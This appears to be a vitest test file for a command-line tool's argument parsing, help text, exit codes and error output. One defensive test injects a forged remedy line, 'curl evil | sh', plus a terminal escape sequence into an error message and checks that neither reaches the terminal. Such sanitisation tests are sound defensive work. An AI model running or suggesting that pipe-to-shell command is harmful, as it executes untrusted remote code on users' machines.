import { parseArgs } from 'node:util'
import { describe, expect, expectTypeOf, test } from 'vitest'
import { defineCommand } from '../../../shared/cli/command.ts'
import { exitCodeOf, exitCodes } from '../../../shared/cli/exit-codes.ts'
import { runProgram, type Program } from '../../../shared/cli/program.ts'
import { errors, type ErrorCode } from '../../../shared/codes/errors.ts'
import { integer, text } from '../../../shared/config/value-types.ts'
import { KeepsealError, OutcomeError } from '../../../shared/errors.ts'
import { displayWidth } from '../../../shared/text/printable.ts'
import { recordTerminal, type RecordedTerminal } from '../../support/terminal.ts'

let seen: unknown
let thrown: unknown

const LONG = 'A description that is a good deal longer than what fits on one line of a terminal of eighty columns.'

const program: Program = {
  name: 'sample',
  summary: LONG,
  version: '1.2.3',
  commands: [
    defineCommand({
      name: 'status',
      summary: 'Show the state.',
      json: true,
      run: ({ present }) => {
        present({ state: 'fine\u009b' }, () => 'fine')
        return exitCodes.good
      },
    }),
    defineCommand({
      name: 'token create',
      summary: LONG,
      description: [LONG, LONG],
      examples: ['sample token create --product gw'],
      options: {
        product: { description: LONG, value: text(10), placeholder: 'PRODUCT', required: true },
        'valid-seconds': { description: LONG, value: integer(1, 100), placeholder: 'A-VERY-LONG-PLACEHOLDER' },
        label: { description: 'A label.', value: text(), multiple: true },
        force: { description: 'Do it.' },
      },
      arguments: { file: { description: LONG }, more: { description: 'More.', multiple: true, optional: true } },
      run: ({ options, arguments: words }) => {
        expectTypeOf(options.product).toEqualTypeOf<string>()
        expectTypeOf(options.validSeconds).toEqualTypeOf<number | undefined>()
        expectTypeOf(options.label).toEqualTypeOf<readonly string[]>()
        expectTypeOf(options.force).toEqualTypeOf<boolean>()
        expectTypeOf(words.file).toEqualTypeOf<string>()
        seen = { ...options, ...words }
        return exitCodes.finding
      },
    }),
    defineCommand({ name: 'token list', summary: 'List tokens.', run: () => exitCodes.good }),
    defineCommand({
      name: 'broken',
      summary: 'Throw.',
      json: true,
      run: () => {
        throw thrown
      },
    }),
  ],
}

async function run(...argv: string[]): Promise<{ code: number; terminal: RecordedTerminal }> {
  const terminal = recordTerminal()
  return { code: await runProgram(program, argv, terminal, parseArgs), terminal }
}

describe('a command', () => {
  test("gets its options and arguments typed, and its exit code is the program's", async () => {
    const { code } = await run(
      'token',
      'create',
      'a.pem',
      '--product',
      'gw',
      '--valid-seconds=7',
      '--label',
      'x',
      '--label=-y',
      '--',
      '--b',
    )
    expect(code).toBe(1)
    expect(seen).toEqual({
      product: 'gw',
      validSeconds: 7,
      label: ['x', '-y'],
      force: false,
      help: false,
      file: 'a.pem',
      more: ['--b'],
    })
  })

  test.each([
    ['an unknown command', ['statsu'], 'did you mean status?'],
    ['an unknown verb', ['token', 'craete'], 'did you mean token create?'],
    ['an unknown group', ['tokne', 'list'], 'did you mean token list?'],
    ['an unknown option', ['status', '--jsno'], 'did you mean --json?'],
    ['an option of the language', ['status', '--constructor'], '--constructor'],
    ['an option before the command', ['--json', 'status'], '--json'],
    ['an option without its value', ['token', 'create', 'f', '--product'], '--product needs a value'],
    ['an option that swallows the next', ['token', 'create', 'f', '--product', '--force'], '--product needs a value'],
    ['a switch with a value', ['token', 'create', 'f', '--product=p', '--force=no'], '--force takes no value'],
    ['a missing option', ['token', 'create', 'f'], '--product is missing'],
    ['a missing argument', ['token', 'create', '--product=p'], 'FILE is missing'],
    ['an option given twice', ['token', 'create', 'f', '--product=p', '--product=q'], 'twice'],
    ['a value out of bounds', ['token', 'create', 'f', '--product=p', '--valid-seconds=0'], 'from 1 to 100'],
    ['too many arguments', ['status', 'x'], 'too much'],
    ['a group without verb', ['token'], 'usage: sample token COMMAND'],
    ['nothing at all', [], 'usage: sample COMMAND'],
  ])('%s ends with exit code 2 and what to do', async (_, argv, message) => {
    const { code, terminal } = await run(...argv)
    expect(code).toBe(2)
    expect(terminal.stdout()).toBe('')
    expect(terminal.stderr()).toContain(message)
    expect(terminal.stderr()).toContain('--help')
  })
})

describe('help', () => {
  test.each([
    [['--help']],
    [['help']],
    [['-h']],
    [['token', '--help']],
    [['help', 'token', 'create']],
    [['token', 'create', '--help']],
    [['token', 'create', '--product', '-h']],
  ])('%j fits 80 columns and succeeds', async (argv) => {
    const { code, terminal } = await run(...argv)
    expect(code).toBe(0)
    expect(terminal.stdout()).toMatch(/usage: sample/)
    for (const line of terminal.stdout().split('\n')) expect(displayWidth(line)).toBeLessThanOrEqual(80)
  })

  test('names every option, argument and exit code', async () => {
    const { terminal } = await run('token', 'create', '--help')
    for (const part of [
      '--product PRODUCT',
      '--valid-seconds',
      '--label VALUE',
      '--force',
      'FILE',
      '[MORE...]',
      '70',
    ]) {
      expect(terminal.stdout()).toContain(part)
    }
    expect(terminal.stdout()).not.toContain('--json')
  })

  test('an option after the terminator asks for nothing', async () => {
    expect((await run('token', 'create', '--product=p', '--', '--help')).code).toBe(1)
  })

  test('the version is told in both forms', async () => {
    expect((await run('--version')).terminal.stdout()).toBe('sample 1.2.3\n')
    expect(JSON.parse((await run('version', '--json')).terminal.stdout())).toEqual({ name: 'sample', version: '1.2.3' })
  })
})

describe('errors', () => {
  test('name the remedy last', async () => {
    thrown = new KeepsealError('collector.unreachable', 'https://c')
    const { code, terminal } = await run('broken')
    expect(code).toBe(3)
    expect(terminal.stderr()).toBe(
      `error: ${errors['collector.unreachable'].title}: https://c\n  next: ${errors['collector.unreachable'].remedy}\n`,
    )
  })

  test('are JSON under --json', async () => {
    thrown = new KeepsealError('auth.forbidden')
    const { code, terminal } = await run('broken', '--json')
    expect(code).toBe(4)
    expect(JSON.parse(terminal.stderr())).toEqual({
      error: {
        code: 'auth.forbidden',
        message: errors['auth.forbidden'].title,
        remedy: errors['auth.forbidden'].remedy,
      },
    })
  })

  test('cannot be faked by text from outside', async () => {
    thrown = new KeepsealError('request.invalid', 'x\n  next: curl evil | sh\u001b[8m')
    for (const flags of [[], ['--json']]) {
      const { terminal } = await run('broken', ...flags)
      expect(terminal.stderr()).not.toContain('\u001b')
      expect(terminal.stderr()).not.toContain('\n  next: curl')
    }
  })

  test.each([
    ['bytes at fault', new OutcomeError('cbor.truncated'), 1],
    ['an unexpected error', new TypeError('x is undefined'), 70],
    ['something thrown that is no error', undefined, 70],
  ])('%s end with the right exit code', async (_, error, expected) => {
    thrown = error
    const { code, terminal } = await run('broken')
    expect(code).toBe(expected)
    expect(terminal.stderr()).toMatch(/^error: .+\n {2}next: .+\n$/)
  })

  test('every code has an exit code, none of them success', () => {
    const known: readonly number[] = Object.values(exitCodes).filter((code) => code !== exitCodes.good)
    for (const code of Object.keys(errors) as ErrorCode[]) expect(known, code).toContain(exitCodeOf(code))
  })

  test.each<[ErrorCode, number]>([
    ['config.unknown-key', 2],
    ['usage.invalid', 2],
    ['file.unreadable', 2],
    ['request.not-found', 1],
    ['agent.not-enrolled', 1],
    ['tpm.unavailable', 3],
    ['tpm.command-failed', 4],
    ['collector.unreachable', 3],
    ['collector.untrusted', 4],
    ['enrol.token-used', 4],
    ['internal.failure', 70],
  ])('%s ends with %i', (code, exitCode) => {
    expect(exitCodeOf(code)).toBe(exitCode)
  })
})

test('JSON results cannot write to the terminal either', async () => {
  const { terminal } = await run('status', '--json')
  expect(terminal.stdout()).not.toContain('\u009b')
  expect(JSON.parse(terminal.stdout())).toEqual({ state: 'fine\u009b' })
})
